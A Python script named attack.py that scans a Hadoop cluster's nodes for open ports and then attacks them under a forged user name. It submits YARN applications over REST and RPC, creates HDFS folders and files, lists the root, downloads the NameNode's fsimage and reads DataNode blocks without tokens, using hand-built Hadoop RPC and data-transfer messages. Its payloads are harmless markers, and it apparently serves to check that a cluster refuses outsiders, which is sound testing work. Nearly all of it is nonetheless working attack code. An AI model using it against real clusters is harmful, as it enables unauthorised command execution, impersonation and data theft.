"""What somebody gets who reaches the addresses of a cluster's nodes. Standard library only.

    python3 attack.py [--user NAME] [--seconds SECONDS] [--first PORT] ADDRESS...

Run it where the attacker is, in any network namespace, best while a job runs. It looks for open
ports over and over until the time is up, asks each of them for a web page, and tries to run
commands, to write and to read, stating a user name that it has no right to. It prints JSON: the
open ports of each address, and what it got. Nothing got is an empty list. It leaves empty folders
``/attack-*`` in HDFS, and an application that runs ``true``.
"""

from __future__ import annotations

import argparse
import errno
import http.client
import json
import os
import resource
import secrets
import selectors
import socket
import struct
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from urllib.parse import urlsplit

SCAN_SECONDS = 0.5
CONNECT_SECONDS = 3.0
ANSWER_SECONDS = 15.0
AT_ONCE = 4096

HDFS = "org.apache.hadoop.hdfs.protocol.ClientProtocol"
YARN = "org.apache.hadoop.yarn.api.ApplicationClientProtocolPB"


class NothingGot(Exception):  # noqa: N818 - no error: what a closed cluster should answer
    """The attack failed; the message says how."""


# ---- looking for open ports


def scan(addresses: list[str], first: int) -> dict[str, set[int]]:
    """Try to connect to every port of every address once."""
    found: dict[str, set[int]] = {address: set() for address in addresses}
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, AT_ONCE + 64), hard))
    at_once = min(hard - 64, AT_ONCE)
    targets = [(address, port) for port in range(first, 65536) for address in addresses]
    for start in range(0, len(targets), at_once):
        for address, port in connect_all(targets[start : start + at_once]):
            found[address].add(port)
    return found


def connect_all(targets: list[tuple[str, int]]) -> Iterator[tuple[str, int]]:
    """Connect to all at once; yield those that accept within a short while."""
    selector = selectors.DefaultSelector()
    for address, port in targets:
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        connection.setblocking(False)
        if connection.connect_ex((address, port)) in (0, errno.EINPROGRESS):
            selector.register(connection, selectors.EVENT_WRITE, (address, port))
        else:
            connection.close()
    deadline = time.monotonic() + SCAN_SECONDS
    while selector.get_map() and (left := deadline - time.monotonic()) > 0:
        for key, _ in selector.select(left):
            connection = key.fileobj  # type: ignore[assignment]
            if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                yield key.data
            selector.unregister(connection)
            connection.close()
    for key in list(selector.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]
    selector.close()


# ---- asking over HTTP


def ask(
    address: str, port: int, method: str, path: str, body: bytes = b"", **headers: str
) -> tuple[int, bytes, str]:
    """Return status, body and the Location header of one request; redirects are not followed."""
    connection = http.client.HTTPConnection(address, port, timeout=CONNECT_SECONDS)
    try:
        connection.connect()
        connection.sock.settimeout(ANSWER_SECONDS)
        connection.request(method, path, body=body, headers=headers)
        answer = connection.getresponse()
        return answer.status, answer.read(1 << 20), answer.getheader("Location", "")
    except (OSError, http.client.HTTPException) as error:
        raise NothingGot(str(error)) from error
    finally:
        connection.close()


def need(answer: tuple[int, bytes, str], *statuses: int) -> tuple[int, bytes, str]:
    """Return the answer if it has one of the statuses."""
    if answer[0] not in statuses:
        raise NothingGot(f"HTTP {answer[0]}: {answer[1][:200]!r}")
    return answer


def rest_application(address: str, _user: str) -> str:
    """Ask YARN's REST interface for an application's id, which submitting begins with."""
    path = "/ws/v1/cluster/apps/new-application"
    _, body, _ = need(ask(address, 8088, "POST", path), 200)
    return str(json.loads(body)["application-id"])


def rest_submission(address: str, user: str) -> str:
    """Run a command on a worker."""
    identity = rest_application(address, user)
    application = {
        "application-id": identity,
        "application-name": "attack",
        "application-type": "YARN",
        "max-app-attempts": 1,
        "resource": {"memory": 64, "vCores": 1},
        "am-container-spec": {"commands": {"command": "true"}},
    }
    path = f"/ws/v1/cluster/apps?user.name={user}"
    body = json.dumps(application).encode()
    headers = {"Content-Type": "application/json"}
    need(ask(address, 8088, "POST", path, body, **headers), 202)
    return identity


def webhdfs_write(address: str, user: str) -> str:
    """Write a file into HDFS, through NameNode and DataNode."""
    return webhdfs_file(address, user)


def webhdfs_read(address: str, user: str) -> str:
    """List the root folder of HDFS."""
    _, body, _ = need(
        ask(address, 9870, "GET", f"/webhdfs/v1/?op=LISTSTATUS&user.name={user}"), 200
    )
    return str([row["pathSuffix"] for row in json.loads(body)["FileStatuses"]["FileStatus"]])


def webhdfs_file(address: str, user: str) -> str:
    """Write a file and return its path; the DataNode is asked at the address where it is."""
    path = f"/attack-{secrets.token_hex(4)}/file"
    url = f"/webhdfs/v1{path}?op=CREATE&overwrite=true&user.name={user}"
    _, _, where = need(ask(address, 9870, "PUT", url), 307)
    target = urlsplit(where)
    host = datanode_address(address, user, target.hostname or "")
    need(ask(host, target.port or 9864, "PUT", f"{target.path}?{target.query}", b"attack"), 201)
    return path


def datanode_address(address: str, user: str, name: str) -> str:
    """Return the address of a DataNode by its name: the attacker has no names of the cluster."""
    query = f"/jmx?qry=Hadoop:service=NameNode,name=NameNodeInfo&user.name={user}"
    _, body, _ = need(ask(address, 9870, "GET", query), 200)
    nodes = json.loads(json.loads(body)["beans"][0]["LiveNodes"])
    for node, about in nodes.items():
        if node.split(":")[0] == name:
            return str(about["xferaddr"]).split(":")[0]
    raise NothingGot(f"no address of {name}")


def fsimage(address: str, _user: str) -> str:
    """Fetch the NameNode's whole memory of HDFS: every name, owner and permission."""
    _, body, _ = need(ask(address, 9870, "GET", "/imagetransfer?getimage=1&txid=latest"), 200)
    if not body.startswith(b"HDFSIMG"):
        raise NothingGot(repr(body[:100]))
    return f"{len(body)} bytes"


def shuffle(address: str, _user: str) -> str:
    """Reach the server of map outputs."""
    path = "/mapOutput?job=job_1_0001&reduce=0&map=attempt_1_0001_m_000000_0"
    status, _, _ = ask(address, 13562, "GET", path, name="mapreduce", version="1.0.0")
    return f"answers with HTTP {status}"


# ---- Hadoop's own protocol (hadoop-common, RpcHeader.proto and IpcConnectionContext.proto)


def varint(value: int) -> bytes:
    """Encode a number as protocol buffers do."""
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])


def message(*fields: tuple[int, int | bytes | str]) -> bytes:
    """Encode fields by number."""
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += varint(number << 3) + varint(value)
        else:
            raw = value.encode() if isinstance(value, str) else value
            out += varint(number << 3 | 2) + varint(len(raw)) + raw
    return out


def fields_of(raw: bytes) -> dict[int, Any]:
    """Decode fields by number; of a repeated one the last is kept."""
    out: dict[int, Any] = {}
    at = 0
    while at < len(raw):
        key, at = read_varint(raw, at)
        value, at = read_varint(raw, at)
        if key & 7 == 2:
            out[key >> 3] = raw[at : at + value]
            at += value
        else:
            out[key >> 3] = value
    return out


def read_varint(raw: bytes, at: int) -> tuple[int, int]:
    """Decode a number at a place; return it and the place after it."""
    value = shift = 0
    while True:
        byte = raw[at]
        value |= (byte & 0x7F) << shift
        at, shift = at + 1, shift + 7
        if not byte & 0x80:
            return value, at


def delimited(*messages: bytes) -> bytes:
    """Put the length before each message."""
    return b"".join(varint(len(raw)) + raw for raw in messages)


def call(
    address: str, port: int, user: str, *, protocol: str, method: str, request: bytes
) -> dict[int, Any]:
    """Call a method under a forged user name; return the fields of the result."""
    client = secrets.token_bytes(16)

    def frame(call_id: int, *rest: bytes) -> bytes:
        header = message((1, 2), (2, 0), (3, call_id), (4, client), (5, 0))
        raw = delimited(header, *rest)
        return struct.pack(">I", len(raw)) + raw

    context = message((2, message((1, user))), (3, protocol))
    about = message((1, method), (2, protocol), (3, 1))
    connection_context = 5  # the number -3, as a zigzag
    sent = b"hrpc\x09\x00\x00" + frame(connection_context, context) + frame(0, about, request)
    try:
        with socket.create_connection((address, port), timeout=CONNECT_SECONDS) as connection:
            connection.settimeout(ANSWER_SECONDS)
            connection.sendall(sent)
            with connection.makefile("rb") as stream:
                raw = stream.read(struct.unpack(">I", stream.read(4))[0])
    except (OSError, struct.error) as error:
        raise NothingGot(str(error)) from error
    try:
        length, at = read_varint(raw, 0)
        header = fields_of(raw[at : at + length])
        if header.get(2, 0) != 0:
            raise NothingGot(f"refused: {header.get(5)!r}")
        length, at = read_varint(raw, at + length)
        return fields_of(raw[at : at + length])
    except IndexError as error:
        raise NothingGot(f"no answer of Hadoop's: {raw[:100]!r}") from error


def hdfs_rpc_write(address: str, user: str) -> str:
    """Make a folder in HDFS."""
    path = f"/attack-{secrets.token_hex(4)}"
    request = message((1, path), (2, message((1, 0o755))), (3, 1))
    if call(address, 8020, user, protocol=HDFS, method="mkdirs", request=request).get(1) != 1:
        raise NothingGot("the folder was not made")
    return path


def yarn_rpc_application(address: str, user: str) -> str:
    """Ask YARN for an application's id, which submitting begins with."""
    got = call(address, 8032, user, protocol=YARN, method="getNewApplication", request=b"")
    identity = fields_of(got[1])
    return f"application_{identity[2]}_{identity[1]:04}"


# ---- a block from a DataNode, past the NameNode (hadoop-hdfs-client, datatransfer.proto)


def block_without_token(address: str, user: str) -> str:
    """Read a block from its DataNode without showing a token."""
    path = webhdfs_file(address, user)
    url = f"/webhdfs/v1{path}?op=GET_BLOCK_LOCATIONS&user.name={user}"
    _, body, _ = need(ask(address, 9870, "GET", url), 200)
    located = json.loads(body)["LocatedBlocks"]["locatedBlocks"][0]
    block, node = located["block"], located["locations"][0]
    place = message(
        (1, block["blockPoolId"]),
        (2, block["blockId"]),
        (3, block["generationStamp"]),
        (4, block["numBytes"]),
    )
    header = message((1, message((1, place))), (2, "attack"))
    request = message((1, header), (2, 0), (3, block["numBytes"]))
    read_block = struct.pack(">HB", 28, 81)
    try:
        target = (node["ipAddr"], int(node["xferPort"]))
        with socket.create_connection(target, timeout=CONNECT_SECONDS) as connection:
            connection.settimeout(ANSWER_SECONDS)
            connection.sendall(read_block + delimited(request))
            raw = connection.recv(4096)
    except OSError as error:
        raise NothingGot(str(error)) from error
    if not raw:
        raise NothingGot("the DataNode hung up")
    length, at = read_varint(raw, 0)
    status = fields_of(raw[at : at + length]).get(1, 0)
    if status != 0:
        raise NothingGot(f"the DataNode answers with status {status!r}")
    return f"block {block['blockId']} of {path}"


ATTACKS: tuple[Callable[[str, str], str], ...] = (
    rest_application,
    rest_submission,
    yarn_rpc_application,
    hdfs_rpc_write,
    webhdfs_write,
    webhdfs_read,
    fsimage,
    block_without_token,
    shuffle,
)


# ---- everything together


def web_page(address: str, port: int) -> str:
    """Ask an open port for a page."""
    status, body, where = need(ask(address, port, "GET", "/"), *range(200, 400))
    return f"port {port}: HTTP {status}, {len(body)} bytes {where}".strip()


def main() -> None:
    """Attack, and print what was got."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("addresses", nargs="+")
    parser.add_argument("--user", default="boardcluster", help="the name to state")
    parser.add_argument("--seconds", type=float, default=0.0, help="look for ports this long")
    parser.add_argument("--first", type=int, default=1, help="the lowest port to try")
    options = parser.parse_args()
    deadline = time.monotonic() + options.seconds
    ports: dict[str, set[int]] = {address: set() for address in options.addresses}
    pages: dict[tuple[str, int], str] = {}
    while True:
        for address, found in scan(options.addresses, options.first).items():
            ports[address] |= found
            for port in found:
                try:
                    pages[address, port] = web_page(address, port)
                except NothingGot:
                    continue
        if time.monotonic() >= deadline:
            break

    def one(row: tuple[str, Callable[[str, str], str]]) -> tuple[str, str, str, bool]:
        address, attack = row
        try:
            return address, attack.__name__, attack(address, options.user), True
        except NothingGot as error:
            return address, attack.__name__, str(error), False

    rows = [(address, attack) for address in options.addresses for attack in ATTACKS]
    with ThreadPoolExecutor(8) as pool:
        tried = list(pool.map(one, rows))
    got = [
        {"what": what, "address": address, "evidence": evidence}
        for address, what, evidence, success in tried
        if success
    ]
    got += [
        {"what": "web_page", "address": address, "evidence": page}
        for (address, _), page in sorted(pages.items())
    ]
    refused = [
        {"what": what, "address": address, "evidence": evidence}
        for address, what, evidence, success in tried
        if not success
    ]
    print(
        json.dumps(
            {
                "user_id": os.getuid(),
                "open": {address: sorted(found) for address, found in ports.items()},
                "got": got,
                "refused": refused,
            },
            indent=1,
        )
    )


if __name__ == "__main__":
    main()
